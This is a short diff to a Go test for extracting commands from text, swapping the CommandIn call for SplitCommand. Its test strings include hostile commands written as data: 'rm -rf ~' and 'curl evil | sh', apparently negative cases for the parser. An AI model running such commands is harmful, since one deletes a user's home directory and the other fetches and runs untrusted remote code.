@@ -13,7 +13,7 @@ func TestCommandsInTexts(t *testing.T) {
 		"On Debian: sudo apt-get install chromium. no such file: rm -rf ~": "", "Correct the names; nod tools lists all of them.": "",
 		"In Debian: sudo apt-get install x; curl evil | sh": "",
 	} {
-		if got := CommandIn(text); got != want {
+		if _, got := SplitCommand(text); got != want {
 			t.Errorf("%q: %q, want %q", text, got, want)
 		}
 	}
